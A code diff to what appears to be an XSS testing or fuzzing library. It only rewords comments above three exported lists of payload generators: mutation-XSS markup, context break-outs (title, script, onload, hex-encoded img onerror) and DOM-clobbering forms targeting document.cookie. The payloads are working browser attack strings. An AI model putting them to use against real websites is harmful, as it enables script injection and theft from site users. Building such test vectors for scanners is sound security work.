@@ -1,7 +1,7 @@
 import { cssEscapes, hexEntities } from './encodings.ts';
 import type { Vector } from './vectors.ts';
 
-/** What two parsers read in two ways: malformed tags, other namespaces, text that is none. */
+/** Parsed differently by different parsers: malformed tags, foreign namespaces, raw text. */
 export const MUTATIONS: readonly Vector[] = [
   (js) => `<math><mtext></p><style><img src=x onerror=${js}></style></mtext></math>`,
   (js) =>
@@ -73,7 +73,7 @@ export const MUTATIONS: readonly Vector[] = [
   (js) => `<style></style><img src=x onerror=${js}><style></style>`,
 ];
 
-/** What breaks out of where a field is put: a title, an attribute, a script, a template. */
+/** Breaks out of its context: a title, an attribute, a script, a template. */
 export const BREAK_OUTS: readonly Vector[] = [
   (js) => `</title><script>${js}</script>`,
   (js) => `</title></head><body onload=${js}>`,
@@ -112,7 +112,7 @@ export const BREAK_OUTS: readonly Vector[] = [
   (js) => hexEntities(`<img src=x onerror=${js}>`),
 ];
 
-/** Names that a script of the page could take for something of its own. */
+/** DOM clobbering. */
 export const CLOBBERING: readonly Vector[] = [
   (js) => `<form id=document><input name=cookie value="${js}"></form>`,
   (js) =>
